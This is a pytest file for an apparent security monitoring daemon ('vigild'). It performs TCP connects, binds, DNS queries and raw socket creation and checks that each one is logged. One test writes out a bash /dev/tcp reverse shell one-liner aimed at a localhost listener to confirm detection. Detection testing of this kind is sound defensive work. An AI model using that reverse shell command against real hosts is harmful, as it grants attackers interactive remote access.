"""Network domain: connect, accept, bind, listen, DNS queries, raw sockets,
and a reverse shell's stdio, each performed for real under the session
vigild and matched by the pids that did it."""
import errno
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time

import pytest

from conftest import action, clean_env, free_port, get, helper, run_helper

PY = sys.executable


def by_pid(name, pid, extra=lambda ev: True):
    return lambda ev: (ev["event"]["action"] == name and ev["process"]["pid"] == pid
                       and extra(ev))


LISTENER = r"""
import socket, sys
l = socket.socket()
l.bind(("127.0.0.1", 0))
l.listen(7)
print(l.getsockname()[1], flush=True)
l.settimeout(10)
for _ in range(2):
    c, peer = l.accept()
    print(peer[1], flush=True)
    c.close()
l.close()
"""

# argv: PORT blocking|nonblocking; prints connect()'s errno and the local port
CLIENT = r"""
import errno, select, socket, sys
s = socket.socket()
if sys.argv[2] == "nonblocking":
    s.setblocking(False)
err = s.connect_ex(("127.0.0.1", int(sys.argv[1])))
if err == errno.EINPROGRESS:
    select.select([], [s], [], 10)
print(err, s.getsockname()[1], flush=True)
s.close()
"""


def test_tcp_connect_accept_listen_bind(vigild):
    lst = subprocess.Popen([PY, "-c", LISTENER], stdout=subprocess.PIPE, text=True)
    try:
        port = int(lst.stdout.readline())
        sports = {}
        for mode in ("blocking", "nonblocking"):
            cli = subprocess.run([PY, "-c", CLIENT, str(port), mode], capture_output=True,
                                 text=True, timeout=15, check=True)
            err, sports[mode] = map(int, cli.stdout.split())
            assert err == (0 if mode == "blocking" else errno.EINPROGRESS)
            assert int(lst.stdout.readline()) == sports[mode]
        lst.wait(timeout=10)
    finally:
        if lst.poll() is None:
            lst.kill()
            lst.wait()

    sport = sports["blocking"]
    ev = vigild.wait_for(lambda e: e["event"]["action"] == "connect"
                         and get(e, "destination.port") == port
                         and get(e, "source.port") == sport,
                         what="connect event")
    assert ev["event"]["outcome"] == "success"
    assert ev["destination"]["ip"] == "127.0.0.1"
    assert ev["source"]["ip"] == "127.0.0.1"
    assert ev["network"]["transport"] == "tcp"
    assert ev["network"]["direction"] == "egress"
    assert ev["process"]["name"].startswith("python")
    assert "error" not in ev
    cli_pid = ev["process"]["pid"]
    assert cli_pid not in (lst.pid, os.getpid())

    # non-blocking: the result is not known yet, the source port already is
    nb = vigild.wait_for(lambda e: e["event"]["action"] == "connect"
                         and get(e, "destination.port") == port
                         and get(e, "source.port") == sports["nonblocking"],
                         what="non-blocking connect event")
    assert nb["event"]["outcome"] == "unknown"
    assert nb["error"]["code"] == "EINPROGRESS"
    assert nb["vigil"]["ret"] == -errno.EINPROGRESS

    acc = vigild.wait_for(by_pid("accept", lst.pid, lambda e: e["source"]["port"] == sport),
                          what="accept event")
    assert acc["source"] == {"ip": "127.0.0.1", "port": sport}
    assert acc["destination"] == {"ip": "127.0.0.1", "port": port}
    assert acc["network"]["direction"] == "ingress"
    assert acc["event"]["outcome"] == "success"
    # ordinary TCP sockets are not socket_raw events
    assert not vigild.find_all(by_pid("socket_raw", cli_pid))

    lis = vigild.wait_for(by_pid("listen", lst.pid), what="listen event")
    assert lis["source"] == {"ip": "127.0.0.1", "port": port}
    assert lis["vigil"]["net"]["backlog"] == 7

    # bind(port 0): the event names the port the kernel picked
    bnd = vigild.wait_for(by_pid("bind", lst.pid), what="bind event")
    assert bnd["source"] == {"ip": "127.0.0.1", "port": port}
    assert bnd["event"]["outcome"] == "success"


def test_connect_refused(vigild):
    port = free_port()
    out, _ = run_helper("connect_refused", str(port))
    assert out["error"] == "ECONNREFUSED"
    ev = vigild.wait_for(by_pid("connect", out["pid"]), what="refused connect event")
    assert ev["event"]["outcome"] == "failure"
    assert ev["error"]["code"] == "ECONNREFUSED"
    assert ev["destination"] == {"ip": "127.0.0.1", "port": port}
    # the kernel drops the source address on failure, but the port survives
    assert ev["source"]["port"] == out["sport"]


def test_connect_refused_ipv6(vigild):
    s = socket.socket(socket.AF_INET6)
    s.bind(("::1", 0))
    port = s.getsockname()[1]
    s.close()
    out, _ = run_helper("connect_refused", str(port), "::1")
    assert out["error"] == "ECONNREFUSED"
    ev = vigild.wait_for(by_pid("connect", out["pid"]), what="IPv6 connect event")
    assert ev["destination"] == {"ip": "::1", "port": port}
    assert ev["network"]["type"] == "ipv6"
    assert ev["error"]["code"] == "ECONNREFUSED"


def test_reverse_shell_stdio(vigild, tmp_path):
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    lst.settimeout(10)
    port = lst.getsockname()[1]
    sh = subprocess.Popen(
        ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash -i <&3 >&3 2>&3 3>&-"],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        env=clean_env(str(tmp_path)))
    conn = None
    try:
        conn, peer = lst.accept()
        ev = vigild.wait_for(by_pid("exec", sh.pid, lambda e: "-i" in e["process"]["args"]),
                             what="exec of the reverse shell")
        stdio = ev["vigil"]["stdio"]
        for fd in ("stdin", "stdout", "stderr"):
            assert stdio[fd]["type"] == "socket", stdio
            sock = stdio[fd]["socket"]
            assert sock["transport"] == "tcp"
            assert sock["remote"] == {"ip": "127.0.0.1", "port": port}
            assert sock["local"] == {"ip": "127.0.0.1", "port": peer[1]}
        con = vigild.wait_for(by_pid("connect", sh.pid), what="connect of the reverse shell")
        assert con["destination"] == {"ip": "127.0.0.1", "port": port}
        assert con["source"]["port"] == peer[1]
        conn.sendall(b"exit\n")
        assert sh.wait(timeout=10) == 0
    finally:
        if sh.poll() is None:
            sh.kill()
            sh.wait()
        if conn:
            conn.close()
        lst.close()


class DnsResponder:
    """Answers every query on UDP ADDR:53 with NXDOMAIN (question echoed)."""

    def __init__(self):
        self.sock = None
        for addr in ("127.0.0.1", "127.0.0.2", "127.0.0.3"):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                s.bind((addr, 53))
            except OSError:
                s.close()
                continue
            self.sock, self.addr = s, addr
            break
        if not self.sock:
            pytest.skip("no free 127.0.0.x:53 for the test DNS responder")
        self.sock.settimeout(0.2)
        self.stop = False
        self.queries = 0
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stop:
            try:
                q, peer = self.sock.recvfrom(4096)
            except socket.timeout:
                continue
            except OSError:
                return
            if len(q) < 12:
                continue
            self.queries += 1
            # id, QR|RD, RA|NXDOMAIN, qdcount 1, an/ns/ar 0, then the question
            end = 12
            while end < len(q) and q[end]:
                end += q[end] + 1
            resp = q[:2] + bytes([0x81, 0x83, 0, 1, 0, 0, 0, 0, 0, 0]) + q[12:end + 5]
            try:
                self.sock.sendto(resp, peer)
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join(timeout=2)
        self.sock.close()


@pytest.fixture
def dns_server():
    d = DnsResponder()
    yield d
    d.close()


def dns_event(vigild, pid, name, what):
    return vigild.wait_for(by_pid("dns_query", pid,
                                  lambda e: e["dns"]["question"]["name"] == name),
                           what=what)


def test_dns_queries(vigild, dns_server):
    addr = dns_server.addr
    # a DNS-shaped datagram to another port is not a DNS query
    other, _ = run_helper("connect_refused", "--udp-dns", addr, "5353", "vigil-not-dns.example.com")

    q1, _ = run_helper("connect_refused", "--udp-dns", addr, "53", "vigil-test.example.com")
    assert q1["reply_id_match"] and q1["rcode"] == 3
    ev = dns_event(vigild, q1["pid"], "vigil-test.example.com", "sendto query")
    assert ev["dns"]["question"]["type"] == "A"
    assert ev["dns"]["id"] == q1["id"]
    assert ev["destination"] == {"ip": addr, "port": 53}
    assert ev["network"]["transport"] == "udp"

    # connect() + send(): sendto with a NULL address on a connected socket
    q2, _ = run_helper("connect_refused", "--udp-dns-connected", addr, "53",
                       "vigil-conn.example.com", "--type", "AAAA")
    assert q2["reply_id_match"]
    ev = dns_event(vigild, q2["pid"], "vigil-conn.example.com", "connected send query")
    assert ev["dns"]["question"]["type"] == "AAAA"
    assert ev["destination"] == {"ip": addr, "port": 53}
    assert ev["source"] == {"ip": "127.0.0.1", "port": q2["sport"]}

    q3, _ = run_helper("connect_refused", "--udp-dns", addr, "53", "vigil-txt.example.com",
                       "--type", "TXT")
    ev = dns_event(vigild, q3["pid"], "vigil-txt.example.com", "TXT query")
    assert ev["dns"]["question"]["type"] == "TXT"

    vigild.barrier()
    assert not vigild.find_all(by_pid("dns_query", other["pid"]))


def test_dns_glibc_resolver(vigild, dns_server):
    """getent through glibc's stub resolver, pointed at the responder by a
    resolv.conf bind-mounted in a private mount namespace (the host's own
    resolv.conf is never touched)."""
    with tempfile.NamedTemporaryFile("w", suffix=".resolv.conf") as rc:
        rc.write(f"nameserver {dns_server.addr}\noptions timeout:1 attempts:1\n")
        rc.flush()
        # ahosts: getaddrinfo sends A and AAAA together with sendmmsg;
        # hosts: one query at a time with send()
        runs = {}
        for cmd, name in (("ahosts", "vigil-gai.example.com"), ("hosts", "vigil-ghbn.example.com")):
            p = subprocess.run(
                ["unshare", "-m", "sh", "-c",
                 f'mount --bind "$0" /etc/resolv.conf && exec getent {cmd} {name}', rc.name],
                capture_output=True, text=True, timeout=20)
            # exit 2: not found, which is what the responder says
            assert p.returncode == 2, (p.returncode, p.stderr)
            runs[name] = p
    types = {}
    # getaddrinfo's pair is waited for whole: its two queries may arrive
    # in different reads of the ring
    for name, want in (("vigil-gai.example.com", {"A", "AAAA"}), ("vigil-ghbn.example.com", None)):
        deadline = time.time() + 15
        while True:
            evs = vigild.find_all(lambda e: action("dns_query")(e) and e["dns"]["question"]["name"] == name)
            got = {e["dns"]["question"]["type"] for e in evs}
            if (want is None and got) or (want is not None and want <= got) or time.time() > deadline:
                break
            time.sleep(0.1)
        assert evs, f"no glibc query for {name}"
        assert all(e["process"]["name"] == "getent" for e in evs)
        assert all(e["destination"] == {"ip": dns_server.addr, "port": 53} for e in evs)
        types[name] = got
    assert types["vigil-gai.example.com"] == {"A", "AAAA"}
    assert types["vigil-ghbn.example.com"] & {"A", "AAAA"}


def test_raw_sockets(vigild):
    out, _ = run_helper("raw_socket")
    assert out["icmp"]["fd"] >= 0 and out["packet"]["fd"] >= 0
    icmp = vigild.wait_for(by_pid("socket_raw", out["pid"],
                                  lambda e: e["vigil"]["socket"]["family_name"] == "AF_INET"),
                           what="raw ICMP socket event")
    assert icmp["vigil"]["socket"]["type"] == 3
    assert icmp["vigil"]["socket"]["protocol"] == 1
    assert icmp["vigil"]["socket"]["raw"] is True
    assert icmp["event"]["outcome"] == "success"
    pkt = vigild.wait_for(by_pid("socket_raw", out["pid"],
                                 lambda e: e["vigil"]["socket"]["family_name"] == "AF_PACKET"),
                          what="AF_PACKET socket event")
    assert pkt["vigil"]["socket"]["protocol"] == socket.htons(0x0003)  # ETH_P_ALL
